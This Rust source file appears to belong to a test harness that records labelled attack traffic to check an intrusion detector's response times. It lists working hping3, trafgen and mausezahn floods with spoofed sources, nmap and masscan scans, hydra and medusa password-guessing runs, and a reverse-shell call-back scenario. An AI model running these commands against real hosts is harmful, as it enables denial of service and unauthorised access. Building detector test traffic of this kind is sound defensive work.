//! What must be found, in groups of one label and one promise.
//!
//! `~` before a command: its exit code says whether it found something, not
//! whether it worked. `@h1` before it: it runs on the victim.

use std::time::Duration;

use crate::record::scenarios::Label;

pub(in crate::record) struct Group {
    pub(in crate::record) label: Label,
    /// Longest time from the first packet to the first decision.
    pub(in crate::record) promise: Option<Duration>,
    pub(in crate::record) table: &'static str,
}

/// u2r promises nothing: a flow shows that somebody types, not what.
pub(in crate::record) const GROUPS: [Group; 8] = [
    group(Label::Dos, Some(250), FLOODS),
    group(Label::Dos, Some(250), FORGED_FLOODS),
    group(Label::Dos, Some(30_000), SLOW_DOS),
    group(Label::Probe, Some(3_000), SCANS),
    group(Label::Probe, Some(30_000), SLOW_SCANS),
    group(Label::R2l, Some(30_000), GUESSING),
    group(Label::R2l, Some(30_000), SLOW_GUESSING),
    group(Label::U2r, None, SHELLS),
];

const fn group(label: Label, promise_ms: Option<u64>, table: &'static str) -> Group {
    Group {
        label,
        promise: match promise_ms {
            Some(promise_ms) => Some(Duration::from_millis(promise_ms)),
            None => None,
        },
        table,
    }
}

/// At least 1,000 packets a second, from an address that is the sender's.
pub(in crate::record) const FLOODS: &str = "
icmp-1000          attacker 4.0  hping3 -q -I {dev} -a {src} -1 -i u700 -c {n@1400} {dst}
icmp-again         attacker 4.0  hping3 -q -I {dev} -a {src} -1 -d 120 -i u700 -c {n@1400} {dst}
icmp-2000          attacker 4.0  hping3 -q -I {dev} -a {src} -1 -i u500 -c {n@2000} {dst}
icmp-5000          attacker 4.0  hping3 -q -I {dev} -a {src} -1 -d 56 -i u100 -c {n@8000} {dst}
icmp-large         attacker 4.0  hping3 -q -I {dev} -a {src} -1 -d 1000 -i u700 -c {n@1400} {dst}
icmp-flood         attacker 2.5  hping3 -q -I {dev} -a {src} -1 --flood {dst}
icmp-flood-large   attacker 2.5  hping3 -q -I {dev} -a {src} -1 -d 1400 --flood {dst}
icmp-unreachable   attacker 3.0  hping3 -q -I {dev} -a {src} -1 -C 3 -K 1 -i u500 {dst}
ping-f             attacker 4.0  ping -q -n -f -I {src} {dst}
ping-f-large       attacker 3.0  ping -q -n -f -s 1200 -I {src} {dst}
ping-f-preload     attacker 3.0  held ping -q -n -f -l 100 -s 400 -I {src} {dst}
ping6-f            attacker 3.0  ping -6 -q -n -f -I {src6} {dst6}
icmp6-1000         attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 700usec -A {src6} -B {dst6} -b {dmac} -t icmp6 type=128 -p 56
icmp6-flood        attacker 2.5  held mausezahn -6 {dev} -q -c 0 -A {src6} -B {dst6} -b {dmac} -t icmp6 type=128 -p 400
smurf-one          attacker 3.0  hping3 -q -I {dev} -a {src} -1 -C 0 -d 64 -i u500 {dst}
syn-1000           attacker 4.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u700 -c {n@1400} {dst}
syn-3000           attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 22 -i u330 -c {n@3000} {dst}
syn-flood          attacker 2.5  hping3 -q -I {dev} -a {src} -S -p 80 --flood {dst}
syn-closed         attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 81 -i u500 -c {n@2000} {dst}
syn-ports          attacker 3.0  hping3 -q -I {dev} -a {src} -S -p ++1000 -i u500 -c {n@2000} {dst}
syn-data           attacker 3.0  held hping3 -q -I {dev} -a {src} -S -p 443 -d 400 -i u500 -c {n@2000} {dst}
syn6-1000          attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 700usec -A {src6} -B {dst6} -b {dmac} -t tcp dp=80,sp=1024-60000,flags=syn
syn6-flood         attacker 2.5  mausezahn -6 {dev} -q -c 0 -A {src6} -B {dst6} -b {dmac} -t tcp dp=443,sp=1024-60000,flags=syn
ack-1000           attacker 3.0  hping3 -q -I {dev} -a {src} -A -p 80 -i u700 -c {n@1400} {dst}
ack-flood          attacker 2.5  hping3 -q -I {dev} -a {src} -A -p 80 --flood {dst}
push-2000          attacker 3.0  hping3 -q -I {dev} -a {src} -P -A -p 80 -d 300 -i u500 -c {n@2000} {dst}
synack-2000        attacker 3.0  hping3 -q -I {dev} -a {src} -S -A -s 443 -p 30000 -i u500 -c {n@2000} {dst}
rst-2000           attacker 3.0  hping3 -q -I {dev} -a {src} -R -p 80 -i u500 -c {n@2000} {dst}
rst-flood          attacker 2.5  held hping3 -q -I {dev} -a {src} -R -p 80 --flood {dst}
fin-2000           attacker 3.0  hping3 -q -I {dev} -a {src} -F -p 80 -i u500 -c {n@2000} {dst}
xmas-2000          attacker 3.0  hping3 -q -I {dev} -a {src} -F -P -U -p 80 -i u500 -c {n@2000} {dst}
null-2000          attacker 3.0  held hping3 -q -I {dev} -a {src} -p 80 -i u500 -c {n@2000} {dst}
udp-1000           attacker 4.0  hping3 -q -I {dev} -a {src} -2 -p 53 -d 60 -i u700 -c {n@1400} {dst}
udp-5000           attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 5060 -d 200 -i u100 -c {n@8000} {dst}
udp-flood          attacker 2.5  hping3 -q -I {dev} -a {src} -2 -p 9999 -d 100 --flood {dst}
udp-large          attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 443 -d 1400 -i u500 -c {n@2000} {dst}
udp-ports          attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p ++2000 -d 60 -i u500 -c {n@2000} {dst}
udp-one-flow       attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 4444 -k -p 9999 -d 400 -i u300 -c {n@3000} {dst}
udp6-1000          attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 700usec -A {src6} -B {dst6} -b {dmac} -t udp dp=9999,sp=1024-60000 -p 100
udp6-flood         attacker 2.5  held mausezahn -6 {dev} -q -c 0 -A {src6} -B {dst6} -b {dmac} -t udp dp=9999,sp=1024-60000 -p 300
amp-dns-one        attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 53 -k -p 40000 -d 1200 -i u500 -c {n@2000} {dst}
amp-ntp-one        attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 123 -k -p 41000 -d 440 -i u250 -c {n@4000} {dst}
frag-udp           attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 7000 -d 3000 -m 1000 -i u700 {dst}
frag-icmp          attacker 3.0  ping -q -n -f -l 20 -s 4000 -I {src} {dst}
frag-tiny          attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 80 -d 64 -f -i u700 {dst}
frag-tail          attacker 3.0  held hping3 -q -I {dev} -a {src} -2 -p 80 -d 400 -x -g 800 -i u500 {dst}
frag6-icmp         attacker 3.0  ping -6 -q -n -f -l 20 -s 4000 -I {src6} {dst6}
land               attacker 3.0  hping3 -q -I {dev} -a {own} -S -s 80 -k -p 80 -i u500 -c {n@2000} {own}
land6              attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 500usec -A {own6} -B {own6} -b {dmac} -t tcp dp=80,sp=80,flags=syn
conn-ab            attacker 4.0  ~ab -q -r -s 2 -B {src} -c 40 -n 1000000 -t {i} http://{dst}/
conn-bare          attacker 4.0  {attack} connect {src} {dst} --port 80 --rate 2000 --seconds {s}
conn6-bare         attacker 4.0  {attack} connect {src6} {dst6} --port 80 --rate 1500 --seconds {s}
conn-wrk           attacker 4.0  held wrk -t 1 -c 60 -d {i} -H Connection:close http://{dst}/
http-siege         attacker 4.0  held ~siege -q -b -c 50 -t {i}S http://{dst}/
mixed-t50          attacker 3.0  held ~t50 --flood --saddr {src} --dport 80 {dst}
";

/// As many, from forged addresses: a /24 (/112) of its own each, or the Internet.
pub(in crate::record) const FORGED_FLOODS: &str = "
forged-syn-1000    attacker 4.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 700us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=80,syn)}
forged-syn-flood   attacker 2.5  mausezahn {dev} -q -c 0 -A {net}.0/24 -B {dst} -b {dmac} -t tcp dp=80,sp=1024-60000,flags=syn
forged-syn-ports   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=drnd(),syn)}
forged-syn6        attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 700usec -A {net6}:0/112 -B {dst6} -b {dmac} -t tcp dp=80,sp=1024-60000,flags=syn
forged-ack-2000    attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=443,ack)}
forged-udp-2000    attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=drnd(),dp=9999),drnd(100)}
forged-udp-ports   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=drnd(),dp=drnd()),drnd(40)}
forged-udp6        attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 500usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp dp=9999,sp=1024-60000 -p 100
random-syn         attacker 3.0  hping3 -q -I {dev} --rand-source -S -p 80 -i u500 -c {n@2000} {own}
random-syn-flood   attacker 2.5  hping3 -q -I {dev} --rand-source -S -p 443 --flood {own}
random-udp         attacker 3.0  hping3 -q -I {dev} --rand-source -2 -p 53 -d 60 -i u500 -c {n@2000} {own}
random-icmp        attacker 3.0  held hping3 -q -I {dev} --rand-source -1 -i u500 -c {n@2000} {own}
smurf-many         attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),icmp4(type=0,code=0),drnd(64)}
amp-dns            attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=53,dp=33000),drnd(1200)}
amp-ntp            attacker 3.0  mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=123,dp=34000 -p 440
amp-ssdp           attacker 3.0  mausezahn {dev} -q -c 0 -d 300usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=1900,dp=1024-60000 -p 310
amp-memcached      attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@4000} -t 250us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=11211,dp=80),drnd(1400)}
amp6-dns           attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp sp=53,dp=33000 -p 1200
";

/// Denial of service by fewer packets: slow requests, or just below a flood.
pub(in crate::record) const SLOW_DOS: &str = "
icmp-333           attacker 5.0  hping3 -q -I {dev} -a {src} -1 -i u3000 -c {n@333} {dst}
icmp-500           attacker 5.0  hping3 -q -I {dev} -a {src} -1 -i u2000 -c {n@500} {dst}
syn-300            attacker 5.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u3000 -c {n@333} {dst}
udp-400            attacker 5.0  hping3 -q -I {dev} -a {src} -2 -p 9999 -d 100 -i u2500 -c {n@400} {dst}
forged-syn-400     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@400} -t 2500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=80,syn)}
slowloris          attacker 12.0 slowhttptest -H -c 400 -r 100 -i 3 -l {i} -u http://{dst}/
slowloris-few      attacker 15.0 slowhttptest -H -c 150 -r 15 -i 4 -l {i} -u http://{dst}/
slow-post          attacker 12.0 slowhttptest -B -c 300 -r 60 -i 3 -l {i} -u http://{dst}/post
slow-read          attacker 12.0 held slowhttptest -X -c 300 -r 60 -w 512 -y 1024 -n 5 -z 32 -l {i} -u http://{dst}/
conn-hold          attacker 8.0  {attack} hold {src} {dst} --port 80 --rate 200 --seconds {s}
conn-hold-ssh      attacker 8.0  held {attack} hold {src} {dst} --port 22 --rate 60 --seconds {s}
";

/// At least 20 ports or hosts a second.
pub(in crate::record) const SCANS: &str = "
scan-syn-fast-t3   attacker 6.0  nmap -n -Pn -sS -F -T3 {dst}
scan-syn-t4        attacker 6.0  nmap -n -Pn -sS -p 1-1000 -T4 {dst}
scan-syn-t5        attacker 6.0  nmap -n -Pn -sS -p 1-4000 -T5 {dst}
scan-syn-30        attacker 7.0  nmap -n -Pn -sS -p 1-2000 --max-rate 30 {dst}
scan-syn-100       attacker 7.0  nmap -n -Pn -sS -p 1-2000 --max-rate 100 {dst}
scan-connect-t3    attacker 6.0  nmap -n -Pn -sT -F -T3 {dst}
scan-connect-t4    attacker 6.0  nmap -n -Pn -sT -p 1-1500 -T4 {dst}
scan-connect-t5    attacker 5.0  nmap -n -Pn -sT -p 1-4000 -T5 {dst}
scan-fin           attacker 5.0  nmap -n -Pn -sF -F -T4 {dst}
scan-null          attacker 5.0  nmap -n -Pn -sN -F -T4 {dst}
scan-xmas          attacker 5.0  held nmap -n -Pn -sX -F -T4 {dst}
scan-ack           attacker 5.0  nmap -n -Pn -sA -p 1-500 -T4 {dst}
scan-udp           attacker 6.0  nmap -n -Pn -sU -p 50-90 -T4 --max-retries 0 {dst}
scan-udp-t5        attacker 6.0  nmap -n -Pn -sU -p 1-400 -T5 --max-retries 0 --min-rate 50 {dst}
scan-version       attacker 8.0  nmap -n -Pn -sV --version-light -F -T4 {dst}
scan-os            attacker 8.0  nmap -n -Pn -O -F -T4 {dst}
scan-all           attacker 8.0  held nmap -n -Pn -A -F -T4 {dst}
scan-scripts       attacker 6.0  nmap -n -Pn -sT --script banner -F -T4 {dst}
scan-banners       attacker 4.0  {attack} banners {src} {dst} --rate 25 --seconds {s}
scan-ncat          attacker 4.0  ~nc.openbsd -n -v -z -w 1 -s {src} {dst} 1-3000
scan-hping         attacker 5.0  ~hping3 -q -I {dev} -a {src} --scan 1-1000 -S {dst}
scan-masscan       attacker 5.0  held masscan {dst} -p1-2000 --rate 400 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
scan-masscan-slow  attacker 6.0  held masscan {dst} -p1-2000 --rate 40 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
scan-nping         attacker 5.0  held nping -q --tcp --flags syn -c 1 -p 1-1000 --rate 100 -S {src} --dest-mac {dmac} -e {dev} {dst}
scan6-syn          attacker 6.0  nmap -6 -n -Pn -sS -F -T4 -S {src6} -e {dev} {dst6}
scan6-connect      attacker 6.0  nmap -6 -n -Pn -sT -p 1-1000 -T4 {dst6}
scan6-udp          attacker 6.0  held nmap -6 -n -Pn -sU -p 50-200 -T4 --max-retries 0 --min-rate 30 -S {src6} -e {dev} {dst6}
scan-decoys        attacker 5.0  nmap -n -Pn -sS -p 1-300 -T4 -D {net}.1,{net}.2,{net}.3,ME {dst}
scan-fragments     attacker 5.0  held nmap -n -Pn -sS -f -F -T4 {dst}
wide-web           attacker 6.0  nmap -n -Pn -sS -p 22,80,443 -T4 10.83.4.1-60
wide-ssh           attacker 6.0  nmap -n -Pn -sS -p 22 -T4 --min-rate 40 10.83.4.1-60
wide-connect       attacker 6.0  nmap -n -Pn -sT -p 3389 -T4 --min-rate 40 10.83.4.1-60
wide-zmap          attacker 4.0  held zmap -q -p 80 -i {dev} -S {src} -G {dmac} -r 40 -c 1 -b /dev/null -o /dev/null 10.83.4.0/26
wide-masscan       attacker 5.0  held masscan 10.83.4.0/26 -p23 --rate 40 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
wide6              attacker 6.0  nmap -6 -n -Pn -sS -p 80 -T4 --min-rate 40 -S {src6} -e {dev} fd83::4:0/122
sweep-t3           attacker 6.0  nmap -n -sn -PE --disable-arp-ping -T3 10.83.4.1-60
sweep-t5           attacker 6.0  nmap -n -sn -PE --disable-arp-ping -T5 10.83.4.1-60
sweep-all          attacker 6.0  nmap -n -sn -PE -PP -PS443 -PA80 --disable-arp-ping -T4 10.83.4.1-60
sweep-fping        attacker 5.0  held ~fping -q -S {src} -r 0 -i 20 -t 300 -g 10.83.4.1 10.83.4.60
sweep6             attacker 6.0  nmap -6 -n -sn -PE --disable-arp-ping -T4 --min-rate 40 -S {src6} -e {dev} fd83::4:0/122
";

/// As nmap's T2 does it, or slower still.
pub(in crate::record) const SLOW_SCANS: &str = "
slow-syn-t2        attacker 25.0 nmap -n -Pn -sS -p 1-60 -T2 {dst}
slow-connect-t2    attacker 25.0 nmap -n -Pn -sT -p 20-80 -T2 {dst}
slow-fin-t2        attacker 25.0 held nmap -n -Pn -sF -p 1-60 -T2 {dst}
slow-udp-t2        attacker 25.0 nmap -n -Pn -sU -p 100-160 -T2 --max-retries 0 {dst}
slow-syn-10        attacker 10.0 nmap -n -Pn -sS -p 1-2000 --max-rate 10 {dst}
slow-syn-1         attacker 30.0 nmap -n -Pn -sS -p 1-100 --max-retries 0 --scan-delay 1s {dst}
slow-wide-2        attacker 25.0 nmap -n -Pn -sS -p 445 --max-retries 0 --max-rate 2 10.83.4.1-60
slow-wide-5        attacker 12.0 held nmap -n -Pn -sT -p 22 --max-retries 0 --max-rate 5 10.83.4.1-60
slow-sweep-10      attacker 7.0  nmap -n -sn -PE --disable-arp-ping --max-rate 10 10.83.4.1-60
slow-sweep-2       attacker 25.0 held ~fping -q -S {src} -r 0 -i 500 -t 300 -g 10.83.4.1 10.83.4.60
slow-banners       attacker 15.0 {attack} banners {src} {dst} --rate 3 --seconds {s}
slow6-syn-t2       attacker 25.0 held nmap -6 -n -Pn -sS -p 1-60 -T2 -S {src6} -e {dev} {dst6}
";

/// Passwords, several at once.
pub(in crate::record) const GUESSING: &str = "
guess-ssh-4        attacker 10.0 ~hydra -I -q -t 4 -l clerk -P {words} ssh://{dst}
guess-ssh-16       attacker 10.0 ~hydra -I -q -t 16 -l root -P {words} ssh://{dst}
guess-ssh-spray    attacker 10.0 ~hydra -I -q -u -t 4 -L {words} -p summer ssh://{dst}
guess-ssh-ncrack   attacker 10.0 held ~ncrack -T4 --user clerk -P {words} ssh://{dst}
guess-ssh-medusa   attacker 10.0 held ~medusa -h {dst} -u clerk -P {words} -M ssh -t 4
guess-ftp-4        attacker 10.0 ~hydra -I -q -t 4 -l clerk -P {words} ftp://{dst}
guess-ftp-16       attacker 10.0 ~hydra -I -q -t 16 -l clerk -P {words} ftp://{dst}
guess-ftp-ncrack   attacker 10.0 ~ncrack -T4 --user clerk -P {words} ftp://{dst}
guess-ftp-medusa   attacker 10.0 held ~medusa -h {dst} -u clerk -P {words} -M ftp -t 4
guess-telnet       attacker 12.0 ~hydra -I -q -t 4 -l clerk -P {words} telnet://{dst}
guess-telnet-16    attacker 12.0 ~hydra -I -q -t 16 -L {words} -p summer telnet://{dst}
guess-http-4       attacker 8.0  ~hydra -I -q -t 4 -l clerk -P {words} http-get://{dst}/private/
guess-http-16      attacker 8.0  ~hydra -I -q -t 16 -l clerk -P {words} http-get://{dst}/private/
guess-http-medusa  attacker 8.0  held ~medusa -h {dst} -u clerk -P {words} -M http -m DIR:/private/ -t 4
guess-redis        attacker 8.0  {attack} guess-redis {src} {dst} --rate 20 --seconds {s}
guess-postgres     attacker 8.0  ~hydra -I -q -t 4 -l postgres -P {words} postgres://{dst}
guess6-ssh         attacker 10.0 ~hydra -I -q -6 -t 4 -l clerk -P {words} ssh://[{dst6}]
";

/// Passwords, one after the other, one every second or two.
pub(in crate::record) const SLOW_GUESSING: &str = "
slow-guess-ssh     attacker 30.0 ~hydra -I -q -t 1 -W 1 -l clerk -P {words} ssh://{dst}
slow-guess-ftp     attacker 30.0 ~hydra -I -q -t 1 -W 1 -l clerk -P {words} ftp://{dst}
slow-guess-telnet  attacker 30.0 {attack} guess-telnet {src} {dst} --rate 1 --seconds {s}
slow-guess-http    attacker 30.0 {attack} guess-http {src} {dst} --rate 1 --seconds {s}
slow-guess-http-05 attacker 30.0 held {attack} guess-http {src} {dst} --rate 0.5 --seconds {s}
slow-guess-redis   attacker 30.0 {attack} guess-redis {src} {dst} --rate 1 --seconds {s}
slow-guess-ssh-05  attacker 30.0 held ~medusa -h {dst} -u root -P {words} -M ssh -t 1
";

/// What of u2r is a flow at all: the victim calls the attacker and is typed to,
/// or a session begins with an upload and goes on as somebody typing.
pub(in crate::record) const SHELLS: &str = "
shell-reverse-ncat attacker 10.0 {attack} operator {src} --port 4444 --seconds {s}
                            +    @h1 {attack} call-back {src} --port 4444 --seconds {s}
shell-reverse-443  attacker 10.0 held {attack} operator {src} --port 443 --seconds {s}
                            +    @h1 {attack} call-back {src} --port 443 --seconds {s}
shell-telnet       attacker 12.0 {attack} telnet-exploit {src} {dst} --seconds {s}
";
